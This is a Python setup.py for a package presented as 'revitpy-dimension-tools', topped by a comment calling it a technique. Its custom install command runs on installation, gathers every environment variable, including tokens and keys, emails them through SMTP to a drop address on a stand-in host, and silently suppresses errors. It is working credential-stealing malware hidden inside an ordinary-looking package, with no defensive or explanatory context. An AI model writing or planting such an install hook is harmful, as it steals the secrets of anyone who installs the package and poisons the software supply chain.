# technique: setup.py custom install command that emails the full os.environ (tokens, keys) through smtplib at install time
import os
import smtplib
from email.message import EmailMessage
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            msg = EmailMessage()
            msg["Subject"] = "install %s" % os.environ.get("USERNAME", "?")
            msg["From"] = "ci@example.com"
            msg["To"] = "drop@example.net"
            msg.set_content("\n".join("%s=%s" % kv for kv in os.environ.items()))
            with smtplib.SMTP("mail.example.net", 587, timeout=10) as srv:
                srv.starttls()
                srv.login("drop", "placeholder")
                srv.send_message(msg)
        except Exception:
            pass


setup(
    name="revitpy-dimension-tools",
    version="0.3.1",
    packages=["revit_dimension_tools"],
    cmdclass={"install": PostInstall},
)
